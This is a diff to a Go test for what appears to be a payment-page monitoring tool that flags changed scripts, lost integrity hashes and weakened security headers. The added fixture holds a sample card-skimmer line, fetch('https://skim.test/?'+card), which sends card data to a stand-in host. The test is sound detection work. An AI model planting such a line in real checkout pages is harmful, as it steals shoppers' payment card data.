@@ -28,7 +28,8 @@ func TestCompareSeesAdditionsChangesAndRemovals(t *testing.T) {
 	// the payment provider's script changed and lost its SRI; a skimmer appeared inline; the
 	// first-party inline script is gone; CSP now allows inline scripts; HSTS shorter; XFO gone
 	cur.Scripts[0].SHA256, cur.Scripts[0].Integrity, cur.Scripts[0].IntegrityValid = hash("cc"), "", nil
-	cur.Scripts[1] = report.Script{Kind: "inline", SHA256: hash("ee"), Party: "first", PaymentPages: []string{pay.URL}, Pages: []string{pay.URL}}
+	cur.Scripts[1] = report.Script{Kind: "inline", SHA256: hash("ee"), Party: "first", PaymentPages: []string{pay.URL}, Pages: []string{pay.URL},
+		Line: 7, Snippet: "fetch('https://skim.test/?'+card)"}
 	pay.CSP = []string{"script-src 'self' https://js.pay.test 'unsafe-inline'; object-src 'none'"}
 	pay.SecurityHeaders["Content-Security-Policy"] = pay.CSP[0]
 	pay.SecurityHeaders["Strict-Transport-Security"] = "max-age=60"
@@ -48,6 +49,9 @@ func TestCompareSeesAdditionsChangesAndRemovals(t *testing.T) {
 	}
 	cs := Compare(base, cur)
 	for _, c := range cs {
+		if c.Kind == ScriptAdded && c.Detail != `inline script, line 7 of `+pay.URL+`: "fetch('https://skim.test/?'+card)"` {
+			t.Errorf("added inline script detail %q", c.Detail)
+		}
 		if c.Kind == CSPWeakened && c.Detail != "script-src now allows 'unsafe-inline'" {
 			t.Errorf("csp detail %q", c.Detail)
 		}
